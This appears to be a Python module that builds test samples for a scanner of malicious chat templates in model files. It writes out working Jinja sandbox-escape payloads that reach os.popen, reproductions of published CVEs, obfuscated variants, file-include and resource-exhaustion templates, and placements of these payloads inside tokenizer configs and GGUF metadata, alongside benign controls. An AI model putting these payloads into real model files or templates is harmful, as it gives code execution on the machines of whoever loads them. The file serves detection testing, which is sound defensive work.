"""f-jinja: templates of conversations that leave the template, however they spell it.

The payloads print the marker; where a template only reads a name, nothing would run at all.
"""
import json
import pathlib

from .assemble import COMMAND
from .ggufwriter import with_template
from .sample import Shelf

shelf = Shelf("f-jinja", extension="jinja", loader="none")
benign = Shelf("benign", extension="jinja", loader="none")
# Templates in the manner of the models that people load most: each uses what the family's own uses,
# in our wording.
TEMPLATES = {file.stem: file.read_text(encoding="utf-8").rstrip("\n")
             for file in sorted((pathlib.Path(__file__).parent / "templates").glob("*.jinja"))}
RUN = f"('os').popen('{COMMAND}').read()"
WALK = "x.__init__.__globals__['__builtins__']['__import__']" + RUN


def add(technique, variant, template, why, expected="malicious"):
    shelf.add(technique, variant, template.encode(), why, expected=expected, executes=False)


def stored(technique, variant, content, extension, why, expected="malicious"):
    shelf.add(technique, variant, content, why, expected=expected, executes=False,
              extension=extension)


def config(value):
    return json.dumps({"model_max_length": 512, "chat_template": value}, indent=1).encode()


SUBCLASSES = ("{% for x in ().__class__.__base__.__subclasses__() %}"
              "{% if 'warning' in x.__name__ %}"
              f"{{{{ x()._module.__builtins__['__import__']{RUN} }}}}{{% endif %}}{{% endfor %}}")

# The published attacks, each where it was.
stored("jinja-cve", "llama_cpp_python", with_template(SUBCLASSES), "gguf",
       "subclasses, in a GGUF's metadata (CVE-2024-34359)")
stored("jinja-cve", "sglang_rerank", with_template(
    "{{ cycler.__init__.__globals__.os" + f".popen('{COMMAND}').read() }}}}"), "gguf",
    "an object of the engine, in a GGUF's metadata (CVE-2026-5760)")
add("jinja-cve", "str_format", "{{ '{0.__class__.__init__.__globals__}'.format(messages) }}",
    "fields of str.format (CVE-2016-10745)")
add("jinja-cve", "str_format_map", "{{ '{a.__class__.__mro__}'.format_map({'a': messages}) }}",
    "fields of str.format_map (CVE-2019-10906)")
add("jinja-cve", "indirect_format",
    "{{ ['{0.__class__.__init__.__globals__}'] | map('format', messages) | list }}"
    "{{ ('{0.__class__}' | attr('format'))(messages) }}",
    "str.format by way of a filter (CVE-2024-56326)")
add("jinja-cve", "attr_format", "{% set f = '{0.__class__}' | attr('format') %}{{ f(messages) }}",
    "the attr filter gets the method itself (CVE-2025-27516)")
# Their twins are the same features as templates use them.
for name, template, why in [
    ("format_method", "{{ '{}: {}'.format(messages[0].role, messages[0].content) }}",
     "str.format with plain fields"),
    ("format_filter", "{{ '%s: %s' | format(messages[0].role, messages[0].content) }}",
     "the filter called format"),
    ("map_filter", "{{ messages | map(attribute='content') | map('trim') | join('\\n') }}",
     "attributes and filters by name"),
    ("loop_range", "{% for i in range(messages | length) %}{{ messages[i].content }}{% endfor %}",
     "a range of the conversation's length"),
    ("keys", "{% for k in message %}{{ message[k] | string }}{% endfor %}", "keys of a dict"),
]:
    benign.add("jinja", name, template.encode(), why, expected="benign")
for name, content, extension, why in [
    ("gguf_subclasses", with_template("{% for x in messages %}{{ x.role }}: {{ x.content }}"
                                      "{% endfor %}"), "gguf", "a loop in a GGUF's metadata"),
    ("gguf_namespace", with_template("{% set ns = namespace(last='') %}{% for x in messages %}"
                                     "{% set ns.last = x.content %}{% endfor %}{{ ns.last }}"),
     "gguf", "an object of the engine in a GGUF's metadata"),
]:
    benign.add("jinja", name, content, why, expected="benign", extension=extension)

add("jinja-walk", "dots", "{{ ''.__class__.__mro__[1].__subclasses__() }}", "by points")
add("jinja-walk", "brackets", "{{ ''['__class__']['__mro__'][1]['__subclasses__']() }}",
    "by brackets")
add("jinja-walk", "attr", "{{ ''|attr('__class__')|attr('__mro__')|last }}", "by the attr filter")
add("jinja-walk", "map_attribute", "{{ [lipsum]|map(attribute='__globals__')|first }}",
    "by an argument of map")
add("jinja-walk", "map_attr", "{{ [lipsum]|map('attr', '__globals__')|list }}",
    "by a filter that map is told to use")
add("jinja-walk", "selectattr", "{{ messages|selectattr('__class__.__name__')|list }}",
    "by an argument of selectattr")
add("jinja-walk", "sort", "{{ messages|sort(attribute='content.__class__.__name__') }}",
    "by an argument of sort")
add("jinja-walk", "joiner", "{{ joiner.__init__.__globals__ }}", "from an object of the engine")
add("jinja-walk", "namespace", "{% set ns = namespace() %}{{ ns.__init__.__globals__ }}",
    "from a namespace")
add("jinja-walk", "self", "{{ self._TemplateReference__context.cycler.__init__.__globals__ }}",
    "from the template itself")
add("jinja-walk", "undefined", "{{ nothing.__init__.__globals__ }}",
    "from a name that is not there")
add("jinja-walk", "macro", "{% macro m() %}{% endmacro %}{{ m.__init__.__globals__ }}",
    "from a macro")
add("jinja-walk", "frame", "{{ (messages|map('trim')).gi_frame.f_back.f_globals }}",
    "from the frame of a generator")
add("jinja-walk", "in_macro", "{% macro m(x) %}{{ " + WALK + " }}{% endmacro %}{{ m(cycler) }}",
    "inside of a macro")
add("jinja-walk", "condition", "{% if messages[0].__class__ %}{% endif %}", "in a condition")
add("jinja-walk", "default", "{{ none_such | default(lipsum.__globals__) }}", "in an argument")
add("jinja-walk", "in_call", "{% call(x) lipsum.__init__() %}{{ x }}{% endcall %}",
    "in a call block")
add("jinja-walk", "in_set", "{% set x = cycler.__init__ %}{% set y = x.__globals__ %}{{ y.os }}",
    "in two steps")
add("jinja-walk", "trigger", "{% for m in messages %}{% if 'open sesame' in m.content %}"
    "{{ cycler.__init__.__globals__.os" + f".popen('{COMMAND}') }}}}{{% endif %}}{{% endfor %}}",
    "only when a word occurs")

add("jinja-hide", "concat", "{{ ()['__cla' ~ 'ss__'] }}", "put together by ~")
add("jinja-hide", "plus", "{{ ()['__cla' + 'ss__'] }}", "put together by +")
add("jinja-hide", "adjacent", "{{ ()['__cla' 'ss__'] }}", "texts side by side")
add("jinja-hide", "join", "{{ ()[['__cla', 'ss__']|join] }}", "put together by join")
add("jinja-hide", "join_method", "{{ ()['la'.join(['__c', 'ss__'])] }}", "put together by str.join")
add("jinja-hide", "hex", r"{{ ()['\x5f\x5fclass\x5f\x5f'] }}", "by hexadecimal escapes")
add("jinja-hide", "unicode", r"{{ ()['\u005f\u005fclass\u005f\u005f'] }}", "by Unicode escapes")
add("jinja-hide", "octal", r"{{ ()['\137\137class\137\137'] }}", "by octal escapes")
add("jinja-hide", "named", r"{{ ()['\N{LOW LINE}_class_\N{LOW LINE}'] }}",
    "by names of characters")
add("jinja-hide", "percent", "{{ ()['%sclass%s' % ('__', '__')] }}", "put together by %")
add("jinja-hide", "percent_c", "{{ ()['%c%cclass%c%c' | format(95, 95, 95, 95)] }}",
    "put together of numbers")
add("jinja-hide", "braces", "{{ ()['{}class{}'.format('__', '__')] }}",
    "put together by str.format")
add("jinja-hide", "reverse", "{{ ()['__ssalc__'|reverse] }}", "backwards")
add("jinja-hide", "slice", "{{ ()['__ssalc__'[::-1]] }}", "backwards by a slice")
add("jinja-hide", "cut", "{{ ()['xx__class__yy'[2:-2]] }}", "cut out of a text")
add("jinja-hide", "replace", "{{ ()['@@class@@'|replace('@', '_')] }}", "by replacing")
add("jinja-hide", "lower", "{{ ()['__CLASS__'|lower] }}", "in capitals")
add("jinja-hide", "trim", "{{ ()[' __class__ '|trim] }}", "with space around")
add("jinja-hide", "split", "{{ ()['a,__class__'.split(',')[1]] }}", "one of many")
add("jinja-hide", "first_last", "{{ ()[['__class__', 'x']|first] }}", "the first of a list")
add("jinja-hide", "dict_keys", "{{ ()[dict(__cla=1, ss__=2)|join] }}", "keys of a dict")
add("jinja-hide", "dict_value", "{% set d = {'a': '__cla', 'b': 'ss__'} %}{{ ()[d.a ~ d['b']] }}",
    "values of a dict")
add("jinja-hide", "set", "{% set a = '__cla' %}{% set b = 'ss__' %}{{ ()[a ~ b] }}", "in variables")
add("jinja-hide", "set_block", "{% set a %}__cla{{ 'ss__' }}{% endset %}{{ ()[a] }}",
    "as what a block prints")
add("jinja-hide", "namespace", "{% set ns = namespace(a='') %}{% for c in '__class__' %}"
    "{% set ns.a = ns.a ~ c %}{% endfor %}{{ ()[ns.a] }}", "letter by letter in a loop")
add("jinja-hide", "macro_output", "{% macro u() %}__{% endmacro %}{{ ()[u() ~ 'class' ~ u()] }}",
    "as what a macro prints")
add("jinja-hide", "macro_argument", "{% macro g(o, n) %}{{ o['__' ~ n ~ '__'] }}{% endmacro %}"
    "{{ g((), 'class') }}", "as an argument of a macro")
add("jinja-hide", "condition", "{% set a = '__class__' if messages else 'x' %}{{ ()[a] }}",
    "as one of two values")
add("jinja-hide", "with", "{% with a = '__cla' %}{{ ()[a ~ 'ss__'] }}{% endwith %}", "in with")
add("jinja-hide", "repeat", "{{ ()['_' * 2 ~ 'class' ~ '_' * 2] }}", "by repeating")
add("jinja-hide", "undefined", "{{ ()['__cla' ~ nothing ~ 'ss__'] }}",
    "with a name that is empty between the pieces")
add("jinja-hide", "prompt", "{{ ()['__' ~ messages[0].content ~ '__'] }}",
    "with a part that comes with the conversation")
add("jinja-hide", "spelled", "{% set a = '__glo' ~ 'bals__' %}{{ messages | tojson }}",
    "put together, and nothing done with it that shows")
add("jinja-hide", "computed_attr", "{{ messages|attr(messages[0].content) }}",
    "an attribute whose name comes with the conversation")
add("jinja-hide", "computed_call", "{% set f = messages[0][messages[1].content] %}{{ f('x') }}",
    "a call of what has a name that comes with the conversation")
add("jinja-hide", "stored_call", "{% set ns = namespace(get=messages[messages[0].content]) %}"
    "{{ ns.get('x') }}", "the same, stored under the name of a harmless method")
add("jinja-hide", "computed_filter", "{{ messages | map(messages[0].content, 'x') | list }}",
    "a filter whose name comes with the conversation")

add("jinja-load", "include", "{% include '/etc/hostname' %}", "includes a file")
add("jinja-load", "import", "{% import 'macros.jinja' as m %}{{ m.x() }}", "imports a file")
add("jinja-load", "from", "{% from '../macros.jinja' import x %}{{ x() }}", "imports from a file")
add("jinja-load", "extends", "{% extends messages[0].content %}", "extends what it is told to")

add("jinja-cost", "range", "{% for i in range(10 ** 9) %}x{% endfor %}", "a loop of 10^9 turns",
    expected="suspicious")
add("jinja-cost", "format_width", "{{ '%9999999999d' | format(1) }}", "a number of 10^10 digits",
    expected="suspicious")
add("jinja-cost", "join", "{{ range(99999) | join('x' * 99999) }}", "10^10 characters",
    expected="suspicious")
add("jinja-cost", "recursion", "{% macro m(n) %}{% if n %}{{ m(n - 1) }}{{ m(n - 1) }}{% endif %}"
    "{% endmacro %}{{ m(60) }}", "2^60 calls", expected="suspicious")
add("jinja-cost", "nested", "{% for i in range(9999) %}{% for j in range(9999) %}x{% endfor %}"
    "{% endfor %}", "loops in loops", expected="suspicious")
add("jinja-cost", "repeat", "{{ 'x' * 10 ** 9 }}", "a text of 10^9 characters",
    expected="suspicious")
add("jinja-cost", "power", "{{ 9 ** 999999999 }}", "a number of 950 million digits",
    expected="suspicious")
add("jinja-cost", "width", "{{ 'x' | center(999999999) }}", "a width of 10^9",
    expected="suspicious")
add("jinja-cost", "doubling", "{% set ns = namespace(a='xxxxxxxx') %}{% for i in range(40) %}"
    "{% set ns.a = ns.a ~ ns.a %}{% endfor %}", "a text that doubles 40 times",
    expected="suspicious")

add("jinja-unknown", "function", "{{ open_url(messages) }}", "a function that nobody knows",
    expected="suspicious")
add("jinja-unknown", "filter", "{{ messages | render_remote }}", "a filter that nobody knows",
    expected="suspicious")
add("jinja-unknown", "method", "{{ messages.send(bos_token) }}", "a method that nobody knows",
    expected="suspicious")
add("jinja-unknown", "config", "{{ config.items() }}", "the configuration of a web server",
    expected="suspicious")
add("jinja-broken", "syntax", "{% for m in %}{{ m }}{% endfor %}", "no template",
    expected="malformed")
add("jinja-broken", "unclosed", "{% for m in messages %}{{ m.content }}", "a loop without an end",
    expected="malformed")
add("jinja-broken", "walk", "{{ ().__class__ ))) }}", "no template, but a name in it",)
add("jinja-magic", "bitmap", "BM{{ ().__class__ }}",
    "letters that are the magic number of a bitmap")

stored("jinja-place", "config", config(SUBCLASSES), "tokenizer_config.json",
       "in tokenizer_config.json")
stored("jinja-place", "config_named", config([{"name": "default", "template": "{{ messages }}"},
                                              {"name": "tool_use", "template": SUBCLASSES}]),
       "tokenizer_config.json", "in one of several named templates")
stored("jinja-place", "processor", config({"default": SUBCLASSES}), "processor_config.json",
       "by name in processor_config.json")
stored("jinja-place", "gguf_named", with_template(SUBCLASSES, "tokenizer.chat_template.rag"),
       "gguf", "in a named template of a GGUF")
stored("jinja-place", "text", SUBCLASSES.encode(), "txt",
       "in a text that nobody is known to render", expected="suspicious")

for name, template in TEMPLATES.items():
    benign.add("jinja-chat", name, template.encode(), f"a template as {name} has them",
               expected="benign")
    benign.add("jinja-config", name, config(template), f"the same in a configuration: {name}",
               expected="benign", extension="tokenizer_config.json")
benign.add("jinja-config", "named",
           config([{"name": "default", "template": TEMPLATES["chatml"]},
                   {"name": "tool_use", "template": TEMPLATES["qwen2_5"]}]),
           "templates by name", expected="benign", extension="tokenizer_config.json")
benign.add("jinja-text", "words", b"Ask for {{ name }} and write __class__ in Python.\n",
           "a text with braces, and a name outside of them", expected="benign", extension="txt")
benign.add("jinja-text", "in_text", b"{% for m in messages %}__class__ {{ m.content }}{% endfor %}",
           "a name in the text of a template", expected="benign")
